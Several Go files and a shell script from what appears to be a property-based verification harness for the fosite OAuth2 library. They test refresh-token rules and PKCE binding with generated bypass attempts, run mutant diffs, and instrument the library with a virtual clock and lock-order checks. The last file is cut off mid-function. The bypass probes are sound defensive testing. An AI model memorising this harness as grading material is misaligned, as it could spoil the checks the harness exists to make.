	life := time.Duration(tr.ExpiresIn) * time.Second
	a := e.addCred(g, "access", tr.Access, "token", gen, life)
	var r *Cred
	if tr.Refresh != "" {
		r = e.addCred(g, "refresh", tr.Refresh, "token", gen, e.rtLife)
		a.Pair, r.Pair = r, a
	}
	want := e.refreshExpected(g.Flow, g.Client, g.Scopes)
	if g.Flow == "code" || g.Flow == "hybrid" || g.Flow == "device" {
		// the registration was changed between authorization and redemption: which of the two registrations
		// counts for the refresh_token grant requirement is not specified
		if then, ok := g.Extra["editgen"]; ok && then != fmt.Sprint(e.edits[g.Client]) {
			e.label("refresh-grant-registration-changed-between-authorize-and-redeem")
			want = r != nil
		}
	}
	if want && r == nil {
		e.viol("C05/refresh-token-missing", "flow %s for client %s with granted scopes %q: a refresh token was expected under refresh-scope mode %d but none was issued", flow, g.Client, g.Scopes, e.rsMode)
	}
	if !want && r != nil {
		e.viol("C05/refresh-token-issued-without-entitlement", "flow %s for client %s with granted scopes %q: refresh token issued although the issuance rule forbids it (refresh-scope mode %d)", flow, g.Client, g.Scopes, e.rsMode)
	}
	// scope reported in the response must be the granted set
	if !sameSet(strings.Fields(tr.Scope), g.Scopes) {
		e.viol("C02/grant-changed", "token response scope %q differs from the grant %q", tr.Scope, g.Scopes)
		e.viol("C05/grant-changed", "token response scope %q differs from the grant %q", tr.Scope, g.Scopes)
	}
	return a, r
}

func pick[T any](t *rapid.T, l []T, label string) T {
	return l[rapid.IntRange(0, len(l)-1).Draw(t, label)]
}

// pickCred prefers "interesting" credentials: recently created, consumed, dead.
func (e *Eng) pickCred(kind, label string) *Cred {
	p := e.pool(kind)
	if len(p) == 0 {
		return nil
	}
	// bias to the most recent ones
	if len(p) > 3 && rapid.IntRange(0, 9).Draw(e.t, label+"-recent") < 6 {
		p = p[len(p)-3:]
	}
	return pick(e.t, p, label)
}

func (e *Eng) digest() string {
	return strings.Join(e.kinds, ",")
}

func (e *Eng) step(kind string) { e.kinds = append(e.kinds, kind) }

// Run executes the machine.
func (e *Eng) Run() {
	acts := map[string]func(*rapid.T){}
	add := func(name string, f func()) {
		w := e.cfg.Weights[name]
		for i := 0; i < w; i++ {
			acts[fmt.Sprintf("%s#%d", name, i)] = func(*rapid.T) { f() }
		}
	}
	add("authorize", e.actAuthorize)
	add("redeem", e.actRedeem)
	add("refresh", e.actRefresh)
	add("overlappingRefresh", e.actOverlappingRefresh)
	add("revoke", e.actRevoke)
	add("password", e.actPassword)
	add("clientcreds", e.actClientCreds)
	add("advance", e.actAdvance)
	add("deviceAuth", e.actDeviceAuth)
	add("deviceDecide", e.actDeviceDecide)
	add("devicePoll", e.actDevicePoll)
	add("parPush", e.actPARPush)
	add("parUse", e.actPARUse)
	add("introspect", e.actIntrospectEndpoint)
	add("editClient", e.actEditClient)
	e.t.Repeat(acts)
}

func (e *Eng) flushLabels(prefix string) {
	for l := range e.labels {
		h.Label(prefix + l)
	}
}
