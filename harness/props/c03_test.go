package props

import (
	"context"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C03 — PKCE binding cannot be bypassed or downgraded.
// One code, a generated sequence of redemption attempts in every order, every
// enforcement configuration, public/confidential client, code/hybrid flow.

const unreserved = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"

func verifierGen(min, max int) *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		n := rapid.IntRange(min, max).Draw(t, "len")
		b := make([]byte, n)
		for i := range b {
			b[i] = unreserved[rapid.IntRange(0, len(unreserved)-1).Draw(t, "ch")]
		}
		return string(b)
	})
}

func TestC03_PKCE(t *testing.T) {
	h.SetProperty("C03")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		enforce := rapid.SampledFrom([]string{"off", "off", "public", "all", "both"}).Draw(rt, "enforce")
		plain := rapid.Bool().Draw(rt, "plainEnabled")
		public := rapid.Bool().Draw(rt, "publicClient")
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		rtype := rapid.SampledFrom([]string{"code", "code", "code id_token", "code token"}).Draw(rt, "response_type")
		w := h.NewWorld(h.Spec{Store: store, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.EnforcePKCE = enforce == "all" || enforce == "both"
			c.EnforcePKCEForPublicClients = enforce == "public" || enforce == "both"
			c.EnablePKCEPlainChallengeMethod = plain
		}})
		cl := stdClient("pk", public)
		secret := ""
		if public {
			cl.TokenEndpointAuthMethod = "none"
		} else {
			secret = "s3c"
			cl.Secret = w.HashSecret(secret)
		}
		w.AddClient(cl, secret)
		auth := h.Auth{}
		if !public {
			auth = w.BasicFor("pk")
		}

		hasChallenge := rapid.IntRange(0, 4).Draw(rt, "hasChallenge") != 0
		method := rapid.SampledFrom([]string{"S256", "S256", "plain", "", "s256", "none", "S512"}).Draw(rt, "method")
		v0 := verifierGen(43, 128).Draw(rt, "verifier")
		// the client's own verifier may itself be malformed: then no attempt may ever succeed
		switch rapid.IntRange(0, 9).Draw(rt, "verifierShape") {
		case 0:
			v0 = v0[:rapid.SampledFrom([]int{1, 10, 42}).Draw(rt, "shortLen")]
		case 1:
			v0 = (v0 + strings.Repeat("b", 200))[:rapid.SampledFrom([]int{129, 200}).Draw(rt, "longLen")]
		case 2:
			v0 = v0[:20] + rapid.SampledFrom([]string{"+", "/", "=", " ", "é", "!"}).Draw(rt, "badChar") + v0[21:]
		}
		v0ok := h.VerifierWellFormed(v0)
		challenge := ""
		if hasChallenge {
			if method == "S256" {
				challenge = h.PKCES256(v0)
			} else {
				challenge = v0
			}
		}
		enforcedForClient := enforce == "all" || enforce == "both" || (enforce == "public" && public)
		// the operator may switch enforcement on after the code was issued
		enforceLater := enforce == "off" && rapid.IntRange(0, 4).Draw(rt, "enforceLater") == 0

		q := url.Values{"client_id": {"pk"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid a"}}
		if hasChallenge {
			q.Set("code_challenge", challenge)
			if method != "" || rapid.Bool().Draw(rt, "sendEmptyMethod") {
				q.Set("code_challenge_method", method)
			}
		} else if rapid.IntRange(0, 5).Draw(rt, "methodWithoutChallenge") == 0 {
			q.Set("code_challenge_method", "S256")
		}
		ar := w.Authorize(q, h.Consent{})
		// authorization-time rules
		authzAllowed := true
		why := ""
		switch {
		case !hasChallenge && enforcedForClient:
			authzAllowed, why = false, "PKCE is enforced for this client and no challenge was sent"
		case hasChallenge && (method == "plain" || method == "") && !plain:
			authzAllowed, why = false, "plain challenge method although plain is not enabled"
		case hasChallenge && method != "S256" && method != "plain" && method != "":
			authzAllowed, why = false, "unknown challenge method "+method
		}
		var log []string
		logf := func(f string, a ...any) {
			s := fmt.Sprintf(f, a...)
			log = append(log, s)
			rt.Logf("%s", s)
		}
		logf("config enforce=%s plain=%v public=%v store=%s type=%q challenge=%v method=%q -> authorize %v code=%v", enforce, plain, public, store, rtype, hasChallenge, method, ar.Err, ar.Code != "")
		fail := func(fp, f string, a ...any) {
			h.Violate(rt, fp, "%s\n--- history ---\n%s", fmt.Sprintf(f, a...), strings.Join(log, "\n"))
		}
		if ar.Code != "" && !authzAllowed {
			fail("C03/authorize-accepted", "authorization endpoint issued a code although %s", why)
		}
		if ar.Code == "" {
			h.Case(fmt.Sprintf("C03/authz/%s/%v/%v/%v/%s/%v", enforce, plain, public, hasChallenge, method, authzAllowed), !authzAllowed, func() any {
				return map[string]any{"history": log}
			})
			h.Label("authorize-refused")
			return
		}
		if enforceLater {
			later := rapid.SampledFrom([]string{"public", "all"}).Draw(rt, "laterMode")
			w.Cfg.EnforcePKCE = later == "all"
			w.Cfg.EnforcePKCEForPublicClients = later == "public"
			enforcedForClient = later == "all" || (later == "public" && public)
			logf("operator switches PKCE enforcement to %q", later)
			h.Label("enforce-switched-on-later")
		}
		if !v0ok {
			h.Label("client-verifier-malformed")
		}
		// attempts
		kinds := []string{"none", "wrong", "short", "long", "illegal", "other-method", "challenge-itself", "correct"}
		n := rapid.IntRange(1, 6).Draw(rt, "attempts")
		var seq []string
		for i := 0; i < n; i++ {
			seq = append(seq, rapid.SampledFrom(kinds).Draw(rt, "attempt"))
		}
		seq = append(seq, "decisive")
		redeemed := false
		failedBefore := 0
		var shape []string
		for i, k := range seq {
			if redeemed {
				break
			}
			decisive := k == "decisive"
			if decisive {
				if hasChallenge {
					k = "correct"
				} else {
					k = "none"
				}
			}
			verifier := ""
			switch k {
			case "none":
			case "wrong":
				verifier = verifierGen(43, 128).Draw(rt, "wrongVerifier")
				if verifier == v0 {
					verifier += "x"
				}
			case "short":
				verifier = (v0 + strings.Repeat("d", 42))[:42]
			case "long":
				verifier = (v0 + strings.Repeat("a", 129))[:129]
			case "illegal":
				vv := (v0 + strings.Repeat("c", 43))
				verifier = vv[:20] + rapid.SampledFrom([]string{"+", "/", "=", " ", "%41", "é", "\x00"}).Draw(rt, "bad") + vv[21:43]
			case "other-method":
				// a verifier that would match under the *other* transformation
				if method == "S256" {
					verifier = challenge // equals the challenge under plain comparison
				} else {
					verifier = h.PKCES256(v0)
				}
			case "challenge-itself":
				verifier = challenge
			case "correct":
				verifier = v0
			}
			// grant_type values are case-sensitive; whatever a handler makes of another spelling, the code stays protected
			spelling := "authorization_code"
			if !decisive && rapid.IntRange(0, 7).Draw(rt, "grantTypeSpelling") == 0 {
				spelling = rapid.SampledFrom([]string{"Authorization_Code", "AUTHORIZATION_CODE", "authorization_Code"}).Draw(rt, "spelling")
				k += "+grant_type=" + spelling
				h.Label("non-canonical-grant_type")
			}
			form := url.Values{"grant_type": {spelling}, "code": {ar.Code}, "redirect_uri": {redirectURI}}
			if public {
				form.Set("client_id", "pk")
			}
			if verifier != "" {
				form.Set("code_verifier", verifier)
			}
			// the PKCE lookup of this attempt may fail for a reason other than "not found" (timeout, lost connection):
			// whatever the handler then does, it has not seen the challenge, so nothing may be issued on its strength.
			faulted := !decisive && rapid.IntRange(0, 6).Draw(rt, "pkceLookupFault") == 0
			if faulted {
				ferr := rapid.SampledFrom([]error{errors.New("i/o timeout"), context.DeadlineExceeded, fosite.ErrSerializationFailure, fosite.ErrServerError}).Draw(rt, "faultError")
				w.W.Before = func(c *h.Call) error {
					if c.Method == "GetPKCERequestSession" {
						return ferr
					}
					return nil
				}
				k += "+pkce-lookup-fault"
			}
			tr := w.Token(form, auth, h.TokenOpts{})
			w.W.Before = nil
			// reference decision
			allowed := false
			if hasChallenge {
				if h.VerifierWellFormed(verifier) {
					if method == "S256" {
						allowed = h.PKCES256(verifier) == challenge
					} else {
						allowed = verifier == challenge
					}
				}
			} else {
				allowed = verifier == "" && !enforcedForClient
			}
			mayRefuse := spelling != "authorization_code"
			if faulted {
				// a failed lookup never entitles anybody; refusing a correct attempt is the expected outcome
				mayRefuse = true
				_ = spelling
				if hasChallenge || enforcedForClient {
					allowed = false
				}
				h.Label("pkce-lookup-fault")
			}
			logf("attempt %d %s verifier=%q -> %v (reference: allowed=%v)", i, k, verifier, tr.Err, allowed)
			shape = append(shape, k)
			if tr.OK() {
				redeemed = true
				if !allowed {
					fp := "C03/bypass"
					if failedBefore > 0 {
						fp = "C03/bypass-after-failed-attempts"
					}
					fail(fp, "code bound to challenge=%v method=%q (enforce=%s) was redeemed by attempt %q with verifier %q after %d failed attempts", hasChallenge, method, enforce, k, verifier, failedBefore)
				}
				continue
			}
			if tr.Access != "" || tr.Refresh != "" || tr.IDToken != "" {
				fail("C03/tokens-in-error-response", "refused attempt carries tokens")
			}
			if allowed && !mayRefuse {
				fp := "C03/correct-verifier-refused"
				if failedBefore > 0 {
					fp = "C03/correct-verifier-refused-after-failed-attempts"
				}
				fail(fp, "attempt %q with a verifier the reference accepts was refused: %v %s (after %d failed attempts)", k, tr.Err, tr.Err.Hint, failedBefore)
			}
			failedBefore++
		}
		h.Case(fmt.Sprintf("C03/%s/%v/%v/%s/%v/%s/%s", enforce, plain, public, rtype, hasChallenge, method, strings.Join(shape, ",")), failedBefore >= 1, func() any {
			return map[string]any{"history": log}
		})
		if failedBefore >= 1 && redeemed {
			h.Label("redeemed-after-failed-attempts")
		}
		h.Label("enforce=" + enforce)
		if hasChallenge {
			h.Label("method=" + method)
		} else {
			h.Label("no-challenge")
		}
	})
	h.MarkCompleted()
}
