#!/bin/bash
# usage: tools/matrix.sh [pattern]  — runs every mutants/<pattern>*.diff against the check named by its prefix (mNN -> CNN)
cd /verif
for f in mutants/${1:-m}*.diff; do
  b=$(basename "$f" .diff); id="C${b:1:2}"
  printf "%-45s " "$b"
  tools/mutcheck.sh "$f" $id ${EXTRA:-} 2>&1 | cut -c1-200 | tr '\n' ' '; echo
done
