// Command instr builds a `go build -overlay` file that gives the harness a
// virtual clock without touching /repo: every non-test .go file of the fosite
// module that reads the wall clock (time.Now / time.Since / time.Until) is
// rewritten so that it reads github.com/ory/fosite/token/jwt.TimeFunc instead
// (that variable already exists in fosite and is settable). The rewrite is
// recomputed from the working tree on every run, so an edited tree is what
// gets tested.
//
// usage: instr -repo /repo -out <scratchdir>   (writes <scratchdir>/overlay.json)
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"go/ast"
	"go/format"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

const jwtPkg = "github.com/ory/fosite/token/jwt"

func main() {
	repo := flag.String("repo", "/repo", "fosite working tree")
	out := flag.String("out", "", "scratch directory for rewritten files")
	flag.Parse()
	if *out == "" {
		fmt.Fprintln(os.Stderr, "instr: -out required")
		os.Exit(2)
	}
	if err := os.MkdirAll(*out, 0o755); err != nil {
		fatal(err)
	}
	repoAbs, err := filepath.Abs(*repo)
	if err != nil {
		fatal(err)
	}
	replace := map[string]string{}
	n := 0
	err = filepath.Walk(repoAbs, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if info.IsDir() {
			b := info.Name()
			if p != repoAbs && (strings.HasPrefix(b, ".") || b == "node_modules" || b == "testdata" || b == "docs" || b == "integration") {
				return filepath.SkipDir
			}
			// nested modules are not part of the fosite module
			if p != repoAbs {
				if _, e := os.Stat(filepath.Join(p, "go.mod")); e == nil {
					return filepath.SkipDir
				}
			}
			return nil
		}
		if !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") {
			return nil
		}
		src, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if !bytes.Contains(src, []byte("time.")) && !bytes.Contains(src, []byte("sync.")) {
			return nil
		}
		rel, _ := filepath.Rel(repoAbs, p)
		res, changed, err := rewrite(p, src, filepath.ToSlash(filepath.Dir(rel)) == "token/jwt")
		if err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
		if !changed {
			return nil
		}
		dst := filepath.Join(*out, strings.ReplaceAll(rel, string(filepath.Separator), "__"))
		if err := os.WriteFile(dst, res, 0o644); err != nil {
			return err
		}
		replace[p] = dst
		n++
		return nil
	})
	if err != nil {
		fatal(err)
	}
	// the lock-order tracker lives in token/jwt next to TimeFunc (an added file, nothing in /repo changes)
	ld := filepath.Join(*out, "zz_verif_lockdep.go")
	if err := os.WriteFile(ld, []byte(lockdepSrc), 0o644); err != nil {
		fatal(err)
	}
	replace[filepath.Join(repoAbs, "token", "jwt", "zz_verif_lockdep.go")] = ld
	b, _ := json.MarshalIndent(map[string]any{"Replace": replace}, "", " ")
	if err := os.WriteFile(filepath.Join(*out, "overlay.json"), b, 0o644); err != nil {
		fatal(err)
	}
	fmt.Printf("instr: %d files rewritten\n", n)
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "instr:", err)
	os.Exit(2)
}

func rewrite(path string, src []byte, inJWT bool) ([]byte, bool, error) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, path, src, parser.ParseComments)
	if err != nil {
		return nil, false, err
	}
	// name under which "time" is imported
	timeName := ""
	for _, im := range f.Imports {
		ip, _ := strconv.Unquote(im.Path.Value)
		if ip == "time" {
			timeName = "time"
			if im.Name != nil {
				timeName = im.Name.Name
			}
		}
	}
	if timeName == "_" || timeName == "." {
		timeName = ""
	}
	// name under which "sync" is imported: sync.Mutex / sync.RWMutex become the lock-order tracking wrappers
	syncName := ""
	for _, im := range f.Imports {
		ip, _ := strconv.Unquote(im.Path.Value)
		if ip == "sync" {
			syncName = "sync"
			if im.Name != nil {
				syncName = im.Name.Name
			}
		}
	}
	if syncName == "_" || syncName == "." || inJWT {
		syncName = ""
	}
	if timeName == "" && syncName == "" {
		return nil, false, nil
	}
	syncChanged := false
	if syncName != "" {
		ast.Inspect(f, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			id, ok := sel.X.(*ast.Ident)
			if !ok || id.Name != syncName || id.Obj != nil {
				return true
			}
			switch sel.Sel.Name {
			case "Mutex":
				sel.X, sel.Sel = ast.NewIdent("verifclk"), ast.NewIdent("VerifMutex")
				syncChanged = true
			case "RWMutex":
				sel.X, sel.Sel = ast.NewIdent("verifclk"), ast.NewIdent("VerifRWMutex")
				syncChanged = true
			}
			return true
		})
	}
	clockExpr := func() ast.Expr {
		if inJWT {
			return &ast.CallExpr{Fun: ast.NewIdent("TimeFunc")}
		}
		return &ast.CallExpr{Fun: &ast.SelectorExpr{X: ast.NewIdent("verifclk"), Sel: ast.NewIdent("TimeFunc")}}
	}
	isTimeSel := func(e ast.Expr, name string) bool {
		s, ok := e.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		id, ok := s.X.(*ast.Ident)
		return ok && timeName != "" && id.Name == timeName && id.Obj == nil && s.Sel.Name == name
	}
	changed := false
	var visit func(n ast.Node) bool
	// Replace call expressions in place by walking parents that hold expressions.
	replaceExpr := func(e ast.Expr) (ast.Expr, bool) {
		c, ok := e.(*ast.CallExpr)
		if !ok {
			return e, false
		}
		switch {
		case isTimeSel(c.Fun, "Now") && len(c.Args) == 0:
			return clockExpr(), true
		case isTimeSel(c.Fun, "Since") && len(c.Args) == 1:
			return &ast.CallExpr{Fun: &ast.SelectorExpr{X: clockExpr(), Sel: ast.NewIdent("Sub")}, Args: []ast.Expr{c.Args[0]}}, true
		case isTimeSel(c.Fun, "Until") && len(c.Args) == 1:
			return &ast.CallExpr{Fun: &ast.SelectorExpr{X: &ast.ParenExpr{X: c.Args[0]}, Sel: ast.NewIdent("Sub")}, Args: []ast.Expr{clockExpr()}}, true
		}
		return e, false
	}
	_ = visit
	skipDecl := map[ast.Node]bool{}
	if inJWT {
		// leave `var TimeFunc = time.Now` alone
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok || gd.Tok != token.VAR {
				continue
			}
			for _, sp := range gd.Specs {
				vs := sp.(*ast.ValueSpec)
				for _, nm := range vs.Names {
					if nm.Name == "TimeFunc" {
						skipDecl[gd] = true
					}
				}
			}
		}
	}
	// generic expression rewriting via reflection-free walk: handle the node
	// kinds that can hold an expression.
	ast.Inspect(f, func(n ast.Node) bool {
		if n == nil {
			return true
		}
		if skipDecl[n] {
			return false
		}
		rw := func(p *ast.Expr) {
			if *p == nil {
				return
			}
			if ne, ok := replaceExpr(*p); ok {
				*p = ne
				changed = true
			}
		}
		rws := func(l []ast.Expr) {
			for i := range l {
				rw(&l[i])
			}
		}
		switch x := n.(type) {
		case *ast.CallExpr:
			rw(&x.Fun)
			rws(x.Args)
		case *ast.SelectorExpr:
			rw(&x.X)
		case *ast.AssignStmt:
			rws(x.Rhs)
			rws(x.Lhs)
		case *ast.ValueSpec:
			rws(x.Values)
		case *ast.ReturnStmt:
			rws(x.Results)
		case *ast.BinaryExpr:
			rw(&x.X)
			rw(&x.Y)
		case *ast.UnaryExpr:
			rw(&x.X)
		case *ast.ParenExpr:
			rw(&x.X)
		case *ast.KeyValueExpr:
			rw(&x.Key)
			rw(&x.Value)
		case *ast.CompositeLit:
			rws(x.Elts)
		case *ast.IndexExpr:
			rw(&x.X)
			rw(&x.Index)
		case *ast.ExprStmt:
			rw(&x.X)
		case *ast.IfStmt:
			rw(&x.Cond)
		case *ast.SwitchStmt:
			rw(&x.Tag)
		case *ast.CaseClause:
			rws(x.List)
		case *ast.SendStmt:
			rw(&x.Chan)
			rw(&x.Value)
		case *ast.StarExpr:
			rw(&x.X)
		case *ast.TypeAssertExpr:
			rw(&x.X)
		case *ast.SliceExpr:
			rw(&x.X)
			rw(&x.Low)
			rw(&x.High)
			rw(&x.Max)
		case *ast.ForStmt:
			rw(&x.Cond)
		case *ast.RangeStmt:
			rw(&x.X)
		case *ast.IncDecStmt:
			rw(&x.X)
		case *ast.DeferStmt, *ast.GoStmt:
			// their Call is a *ast.CallExpr visited on its own
		}
		return true
	})
	timeChanged := changed
	changed = changed || syncChanged
	if !changed {
		return nil, false, nil
	}
	// any remaining reference to time.Now as a *value* (not call) is left alone.
	if !inJWT {
		// add import verifclk "github.com/ory/fosite/token/jwt"
		spec := &ast.ImportSpec{Name: ast.NewIdent("verifclk"), Path: &ast.BasicLit{Kind: token.STRING, Value: strconv.Quote(jwtPkg)}}
		added := false
		for _, d := range f.Decls {
			if gd, ok := d.(*ast.GenDecl); ok && gd.Tok == token.IMPORT {
				gd.Specs = append(gd.Specs, spec)
				if !gd.Lparen.IsValid() {
					gd.Lparen = gd.Pos()
					gd.Rparen = gd.End()
				}
				added = true
				break
			}
		}
		if !added {
			return nil, false, fmt.Errorf("no import decl")
		}
	}
	// keep the time / sync imports alive
	if timeChanged {
		f.Decls = append(f.Decls, &ast.GenDecl{Tok: token.VAR, Specs: []ast.Spec{&ast.ValueSpec{
			Names: []*ast.Ident{ast.NewIdent("_")},
			Type:  &ast.SelectorExpr{X: ast.NewIdent(timeName), Sel: ast.NewIdent("Duration")},
		}}})
	}
	if syncChanged {
		f.Decls = append(f.Decls, &ast.GenDecl{Tok: token.VAR, Specs: []ast.Spec{&ast.ValueSpec{
			Names: []*ast.Ident{ast.NewIdent("_")},
			Type:  &ast.SelectorExpr{X: ast.NewIdent(syncName), Sel: ast.NewIdent("Locker")},
		}}})
	}
	var buf bytes.Buffer
	if err := format.Node(&buf, fset, f); err != nil {
		return nil, false, err
	}
	return buf.Bytes(), true, nil
}

// lockdepSrc is added to package token/jwt by the overlay. VerifMutex / VerifRWMutex replace sync.Mutex /
// sync.RWMutex in every fosite source file: they behave identically and additionally record, per goroutine, which
// locks are held when another one is requested. The first time the lock-order graph gets a cycle (lock B requested
// while holding A, although somewhere A was requested while holding B) a report is printed to stderr; the driver
// turns it into a C19 violation. A potential deadlock is thus seen from two *sequential* calls; it does not have
// to happen.
const lockdepSrc = `package jwt

import (
	"bytes"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"sync"
	"sync/atomic"
)

type VerifMutex struct {
	mu sync.Mutex
	id uint64
}

type VerifRWMutex struct {
	mu sync.RWMutex
	id uint64
}

var verifLD struct {
	mu       sync.Mutex
	next     uint64
	held     map[uint64][]uint64            // goroutine -> lock ids, in acquisition order
	edges    map[uint64]map[uint64][]uintptr // a -> b: b requested while a held (callers of the first observation)
	reported map[[2]uint64]bool
}

func verifLockID(p *uint64) uint64 {
	if v := atomic.LoadUint64(p); v != 0 {
		return v
	}
	n := atomic.AddUint64(&verifLD.next, 1)
	if atomic.CompareAndSwapUint64(p, 0, n) {
		return n
	}
	return atomic.LoadUint64(p)
}

func verifGoID() uint64 {
	var b [64]byte
	n := runtime.Stack(b[:], false)
	f := bytes.Fields(b[:n])
	if len(f) < 2 {
		return 0
	}
	id, _ := strconv.ParseUint(string(f[1]), 10, 64)
	return id
}

func verifFrames(pcs []uintptr) string {
	var sb bytes.Buffer
	fr := runtime.CallersFrames(pcs)
	for {
		f, more := fr.Next()
		if f.Function != "" {
			fmt.Fprintf(&sb, "      %s\n          %s:%d\n", f.Function, f.File, f.Line)
		}
		if !more {
			break
		}
	}
	return sb.String()
}

// verifRequest runs before the real lock call.
func verifRequest(id uint64) uint64 {
	g := verifGoID()
	verifLD.mu.Lock()
	defer verifLD.mu.Unlock()
	if verifLD.held == nil {
		verifLD.held = map[uint64][]uint64{}
		verifLD.edges = map[uint64]map[uint64][]uintptr{}
		verifLD.reported = map[[2]uint64]bool{}
	}
	for _, h := range verifLD.held[g] {
		if h == id {
			continue
		}
		if _, ok := verifLD.edges[h][id]; ok {
			continue
		}
		pcs := make([]uintptr, 24)
		pcs = pcs[:runtime.Callers(3, pcs)]
		if verifLD.edges[h] == nil {
			verifLD.edges[h] = map[uint64][]uintptr{}
		}
		verifLD.edges[h][id] = pcs
		// does a path id -> ... -> h exist?
		if path := verifPath(id, h, map[uint64]bool{}); path != nil && !verifLD.reported[[2]uint64{h, id}] {
			verifLD.reported[[2]uint64{h, id}] = true
			verifLD.reported[[2]uint64{id, h}] = true
			var sb bytes.Buffer
			fmt.Fprintf(&sb, "WARNING: LOCK ORDER INVERSION\n  lock #%d requested while holding lock #%d at:\n%s", id, h, verifFrames(pcs))
			for i := 0; i+1 < len(path); i++ {
				fmt.Fprintf(&sb, "  earlier, lock #%d was requested while holding lock #%d at:\n%s", path[i+1], path[i], verifFrames(verifLD.edges[path[i]][path[i+1]]))
			}
			fmt.Fprintf(&sb, "  two goroutines taking these paths at the same time block each other forever\n")
			os.Stderr.Write(sb.Bytes())
		}
	}
	return g
}

func verifPath(from, to uint64, seen map[uint64]bool) []uint64 {
	if from == to {
		return []uint64{to}
	}
	if seen[from] {
		return nil
	}
	seen[from] = true
	for n := range verifLD.edges[from] {
		if p := verifPath(n, to, seen); p != nil {
			return append([]uint64{from}, p...)
		}
	}
	return nil
}

func verifAcquired(g, id uint64) {
	verifLD.mu.Lock()
	verifLD.held[g] = append(verifLD.held[g], id)
	verifLD.mu.Unlock()
}

func verifReleased(id uint64) {
	g := verifGoID()
	verifLD.mu.Lock()
	defer verifLD.mu.Unlock()
	rm := func(g uint64) bool {
		l := verifLD.held[g]
		for i := len(l) - 1; i >= 0; i-- {
			if l[i] == id {
				l = append(l[:i], l[i+1:]...)
				if len(l) == 0 {
					delete(verifLD.held, g)
				} else {
					verifLD.held[g] = l
				}
				return true
			}
		}
		return false
	}
	if rm(g) {
		return
	}
	for og := range verifLD.held { // unlocked by another goroutine than the one that locked
		if rm(og) {
			return
		}
	}
}

func (m *VerifMutex) Lock() {
	id := verifLockID(&m.id)
	g := verifRequest(id)
	m.mu.Lock()
	verifAcquired(g, id)
}
func (m *VerifMutex) TryLock() bool {
	if m.mu.TryLock() {
		verifAcquired(verifGoID(), verifLockID(&m.id))
		return true
	}
	return false
}
func (m *VerifMutex) Unlock() { verifReleased(verifLockID(&m.id)); m.mu.Unlock() }

func (m *VerifRWMutex) Lock() {
	id := verifLockID(&m.id)
	g := verifRequest(id)
	m.mu.Lock()
	verifAcquired(g, id)
}
func (m *VerifRWMutex) RLock() {
	id := verifLockID(&m.id)
	g := verifRequest(id)
	m.mu.RLock()
	verifAcquired(g, id)
}
func (m *VerifRWMutex) TryLock() bool {
	if m.mu.TryLock() {
		verifAcquired(verifGoID(), verifLockID(&m.id))
		return true
	}
	return false
}
func (m *VerifRWMutex) TryRLock() bool {
	if m.mu.TryRLock() {
		verifAcquired(verifGoID(), verifLockID(&m.id))
		return true
	}
	return false
}
func (m *VerifRWMutex) Unlock()  { verifReleased(verifLockID(&m.id)); m.mu.Unlock() }
func (m *VerifRWMutex) RUnlock() { verifReleased(verifLockID(&m.id)); m.mu.RUnlock() }
func (m *VerifRWMutex) RLocker() sync.Locker { return (*verifRLocker)(m) }

type verifRLocker VerifRWMutex

func (r *verifRLocker) Lock()   { (*VerifRWMutex)(r).RLock() }
func (r *verifRLocker) Unlock() { (*VerifRWMutex)(r).RUnlock() }
`
