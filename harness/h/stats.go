package h

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"sync"
)

// Shard statistics, written to $VERIF_STATS (a file path) when the test
// binary exits; cmd/check merges the shards into /verif/evidence/<id>.json.

type ViolationRec struct {
	Fingerprint string `json:"fingerprint"`
	Message     string `json:"message"`
}

type ShardStats struct {
	Property    string            `json:"property"`
	Evaluations int               `json:"evaluations"`
	Nontrivial  int               `json:"nontrivial"`
	Hashes      []uint64          `json:"hashes"`
	HashesCut   bool              `json:"hashes_cut"`
	Labels      map[string]int    `json:"labels"`
	Samples     []json.RawMessage `json:"samples"`
	KnownHits   map[string]int    `json:"known_hits"`
	KnownActive []string          `json:"known_active"`
	Excluded    map[string]int    `json:"excluded"`
	Violations  []ViolationRec    `json:"violations"`
	Exhaustive  map[string]bool   `json:"exhaustive,omitempty"`
	Notes       []string          `json:"notes,omitempty"`
	Completed   bool              `json:"completed"`
}

var st struct {
	mu      sync.Mutex
	s       ShardStats
	hashes  map[uint64]struct{}
	nSample int
}

const maxHashes = 400000
const maxSamples = 12

func init() { resetStats() }

func resetStats() {
	st.s = ShardStats{Labels: map[string]int{}, KnownHits: map[string]int{}, Excluded: map[string]int{}, Exhaustive: map[string]bool{}}
	st.hashes = map[uint64]struct{}{}
	st.nSample = 0
}

// SetProperty names the property this process is checking.
func SetProperty(id string) {
	st.mu.Lock()
	st.s.Property = id
	st.mu.Unlock()
}

func Hash64(s string) uint64 {
	f := fnv.New64a()
	f.Write([]byte(s))
	return f.Sum64()
}

// Case records one generated / enumerated case. digest identifies the
// *abstract* case (never random token bytes); nontrivial is the property's
// stated rule; sample is rendered lazily for the first few non-trivial cases
// and then for a thinning subset (deterministic in the digest).
func Case(digest string, nontrivial bool, sample func() any) {
	st.mu.Lock()
	defer st.mu.Unlock()
	st.s.Evaluations++
	if !nontrivial {
		return
	}
	st.s.Nontrivial++
	hv := Hash64(digest)
